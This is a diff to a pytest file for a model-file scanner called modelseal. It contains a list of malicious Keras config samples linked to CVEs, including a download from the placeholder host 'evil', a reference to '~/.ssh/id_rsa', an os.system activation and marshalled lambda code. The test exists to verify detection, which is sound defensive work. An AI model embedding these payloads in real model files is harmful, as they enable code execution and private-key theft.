@@ -6,17 +6,41 @@ Every sample is checked as a standalone ``config.json``, inside a ``.keras`` zip
 
 from __future__ import annotations
 
+import io
 import json
 import os
+import zipfile
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
-from format_samples import dot_keras, keras_h5
 
 import modelseal
 from modelseal.scanning.report import ScanReport
+
+
+def dot_keras(config: bytes) -> bytes:
+    """A ``.keras`` zip around ``config``."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        zf.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
+        zf.writestr("config.json", config)
+        zf.writestr("model.weights.h5", b"")
+    return buf.getvalue()
+
+
+def keras_h5(config: bytes, path: Path) -> bytes:
+    """A legacy Keras ``.h5`` file whose ``model_config`` is ``config``."""
+    import h5py
+
+    with h5py.File(path, "w") as f:
+        f.attrs["model_config"] = config.decode()
+        f.attrs["keras_version"] = "2.15.0"
+        f.create_dataset("model_weights/dense/kernel", data=[[1.0]])
+    data = path.read_bytes()
+    path.unlink()
+    return data
 
 
 def _config(layers: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
@@ -46,7 +70,9 @@ MALICIOUS: list[tuple[str, dict[str, Any], str, str]] = [
     ),
     (
         "get-file-src-module",
-        _config([_layer("get_file", {"origin": "http://evil/x.tgz"}, "keras.src.utils.file_utils")]),
+        _config(
+            [_layer("get_file", {"origin": "http://evil/x.tgz"}, "keras.src.utils.file_utils")]
+        ),
         "keras.unsafe-api",
         "CVE-2025-8747",
     ),
@@ -65,7 +91,14 @@ MALICIOUS: list[tuple[str, dict[str, Any], str, str]] = [
     ),
     (
         "enable-unsafe-deserialization",
-        _config([_layer("Activation", {"activation": _fn("keras.config", "enable_unsafe_deserialization")})]),
+        _config(
+            [
+                _layer(
+                    "Activation",
+                    {"activation": _fn("keras.config", "enable_unsafe_deserialization")},
+                )
+            ]
+        ),
         "keras.unsafe-api",
         "CVE-2025-9906",
     ),
@@ -89,7 +122,15 @@ MALICIOUS: list[tuple[str, dict[str, Any], str, str]] = [
     ),
     (
         "keras-hub-tokenizer-merges",
-        _config([_layer("BytePairTokenizer", {"vocabulary": None, "merges": "~/.ssh/id_rsa"}, "keras_hub.tokenizers")]),
+        _config(
+            [
+                _layer(
+                    "BytePairTokenizer",
+                    {"vocabulary": None, "merges": "~/.ssh/id_rsa"},
+                    "keras_hub.tokenizers",
+                )
+            ]
+        ),
         "keras.file-reference",
         "",
     ),
@@ -113,13 +154,27 @@ MALICIOUS: list[tuple[str, dict[str, Any], str, str]] = [
     ),
     (
         "lambda-bytecode",
-        _config([_layer("Lambda", {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}})]),
+        _config(
+            [
+                _layer(
+                    "Lambda",
+                    {"function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAA"}}},
+                )
+            ]
+        ),
         "keras.lambda",
         "CVE-2024-3660",
     ),
     (
         "tf-keras-lambda",  # tf.keras 2 style: function_type "lambda" with marshalled code
-        _config([{"class_name": "Custom", "config": {"function": ["4wEAAAAA", None, None], "function_type": "lambda"}}]),
+        _config(
+            [
+                {
+                    "class_name": "Custom",
+                    "config": {"function": ["4wEAAAAA", None, None], "function_type": "lambda"},
+                }
+            ]
+        ),
         "keras.lambda",
         "",
     ),
@@ -131,7 +186,10 @@ MALICIOUS: list[tuple[str, dict[str, Any], str, str]] = [
     ),
     (
         "class-name-past-the-head",  # detection never depends on the first 4 KiB
-        {"padding": "x" * 8000, **_config([_layer("Activation", {"activation": _fn("os", "system")})])},
+        {
+            "padding": "x" * 8000,
+            **_config([_layer("Activation", {"activation": _fn("os", "system")})]),
+        },
         "keras.module",
         "",
     ),
@@ -161,7 +219,8 @@ CONTAINERS: dict[str, Callable[[dict[str, Any], Path], bytes]] = {
 def _scan(tmp_path: Path, name: str, data: bytes) -> ScanReport:
     path = tmp_path / name
     path.write_bytes(data)
-    return modelseal.scan(path)
+    report: ScanReport = modelseal.scan(path)
+    return report
 
 
 @pytest.mark.parametrize("container", sorted(CONTAINERS))
@@ -216,8 +275,6 @@ def _real_models(d: Path) -> list[Path]:
     sequential.save(d / "sequential.keras")
     sequential.save(d / "legacy.h5")
     sequential.save_weights(d / "only.weights.h5")
-    import zipfile
-
     (d / "config.json").write_bytes(zipfile.ZipFile(d / "functional.keras").read("config.json"))
     return sorted(d.iterdir())
 
